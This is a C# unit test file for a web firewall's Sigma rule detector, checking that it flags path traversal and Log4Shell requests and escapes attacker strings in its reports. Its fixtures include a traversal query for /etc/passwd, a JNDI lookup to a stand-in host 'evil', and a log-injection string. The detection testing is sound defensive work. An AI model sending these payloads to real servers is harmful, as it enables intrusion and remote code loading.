using Ensuresec.Core.Events;
using Ensuresec.Core.Findings;
using Ensuresec.Core.Pipeline;
using Ensuresec.Detection;
using Ensuresec.Detection.Web;
using Ensuresec.Tests.Support;

namespace Ensuresec.Waf.Tests.Sigma;

/// <summary>The Sigma detector (detectors.sigma) through the real pipeline with two partitions and the SigmaHQ web rules.</summary>
public sealed class SigmaDetectorTests
{
    private static readonly DateTimeOffset T0 = new(2026, 3, 1, 10, 0, 0, TimeSpan.Zero);

    private static SecurityEvent Request(int i, string ip, string path, string? query, string agent = "Mozilla/5.0") => new()
    {
        Id = $"e{i}", Timestamp = T0.AddSeconds(i), Action = EventActions.HttpRequest, SourceIp = ip, HttpMethod = "GET",
        UrlPath = path, UrlQuery = query, StatusCode = 200, UserAgent = agent,
    };

    private static DetectionOptions OnlySigma(SigmaOptions sigma) => new()
    {
        RequestFlood = new() { Enabled = false }, Scanning = new() { Enabled = false }, CredentialStuffing = new() { Enabled = false },
        AccountTakeover = new() { Enabled = false }, CardTesting = new() { Enabled = false }, WebPayload = new() { Enabled = false },
        WorkflowMonitor = new() { Enabled = false }, Sigma = sigma,
    };

    private static async Task<List<Finding>> Run(IEnumerable<SecurityEvent> events)
    {
        var options = OnlySigma(new SigmaOptions { Rules = [SharedData.PathOf("sigma-web/rules/web"), SharedData.PathOf("sigma-web/emerging-threats-web")] });
        DetectorCatalog.Validate(options).ShouldBeEmpty();
        var sink = new ListSink();
        await using (var pipeline = new DetectionPipeline(DetectorCatalog.Create(options), sink, new PipelineOptions { Partitions = 2 }))
        {
            foreach (var e in events) await pipeline.WriteAsync(e);
            await pipeline.CompleteAsync();
            pipeline.Faults.ShouldBeEmpty();
        }

        return [.. sink.Findings.Where(f => f.Detector == "sigma")];
    }

    [Fact]
    public async Task Pipeline_TraversalFromOneAddress_OneFindingWithRuleIdLevelTechniqueAndEvidence()
    {
        var events = Enumerable.Range(0, 5).Select(i => Request(i, "198.51.100.7", "/download", $"file=../../../etc/passwd&n={i}"))
            .Concat(Enumerable.Range(10, 50).Select(i => Request(i, "203.0.113." + (i % 9), "/product", $"id={i}")));
        var findings = await Run(events);
        var f = findings.ShouldHaveSingleItem();
        f.RuleId.ShouldBe("7745c2ea-24a5-4290-b680-04359cb84b35");
        f.Severity.ShouldBe(Severity.Medium);
        f.Technique.ShouldBe("T1190");
        f.Explanation.ShouldContain("\"Path Traversal Exploitation Attempts\"");
        f.Explanation.ShouldContain("cs-uri-query \"/download?file=../../../etc/passwd&n=0\"");
        f.EvidenceEventIds.ShouldBe(["e0"]);
    }

    [Fact]
    public async Task Pipeline_AttackerStrings_AreQuotedWithControlCharactersReplaced()
    {
        var findings = await Run([Request(1, "198.51.100.8", "/x", null, "${jndi:ldap://evil/a}\u001b[31m\nforged line")]);
        findings.ShouldNotBeEmpty();
        findings.ShouldAllBe(f => !f.Explanation.Contains('\u001b') && !f.Explanation.Contains('\n'));
        findings.ShouldContain(f => f.Severity == Severity.High && f.Explanation.Contains("Log4j", StringComparison.Ordinal));
    }

    [Fact]
    public void Options_MissingFolderOrBadLogsource_AreConfigErrors()
    {
        var errors = DetectorCatalog.Validate(OnlySigma(new SigmaOptions { Rules = ["/nonexistent/sigma"], Logsource = "firewall" }));
        errors.Select(e => e.ToString()).ShouldBe(
            ["detectors.sigma.rules: folder '/nonexistent/sigma' not found", "detectors.sigma.logsource: must be webserver, proxy or all"], ignoreOrder: true);
    }

    [Fact]
    public void Catalog_NoFolders_DetectorTakesNoEvents()
    {
        var detector = DetectorCatalog.Create(OnlySigma(new SigmaOptions())).Select(f => f()).Single(d => d.Name == "sigma");
        var keys = new List<DetectorKey>();
        detector.SelectKeys(Request(1, "198.51.100.9", "/download", "file=../../../etc/passwd"), keys);
        keys.ShouldBeEmpty();
        DetectorCatalog.Create(OnlySigma(new SigmaOptions { Enabled = false })).Select(f => f().Name).ShouldNotContain("sigma");
        DetectorCatalog.Names.ShouldContain("sigma");
    }

    [Theory]
    [InlineData("critical", Severity.Critical)]
    [InlineData("high", Severity.High)]
    [InlineData("medium", Severity.Medium)]
    [InlineData("low", Severity.Low)]
    [InlineData("informational", Severity.Info)]
    public void Level_MapsToSeverity(string level, Severity severity)
    {
        string yaml = $"title: t\nlevel: {level}\nlogsource: {{category: webserver}}\ndetection:\n  s:\n    c-uri: /x\n  condition: s\n";
        Ensuresec.Waf.Sigma.SigmaLoader.Parse(yaml, "t.yml").Rule!.Severity.ShouldBe(severity);
    }

    private sealed class ListSink : IFindingSink
    {
        public List<Finding> Findings { get; } = [];

        public void Emit(Finding finding)
        {
            lock (Findings) Findings.Add(finding);
        }
    }
}
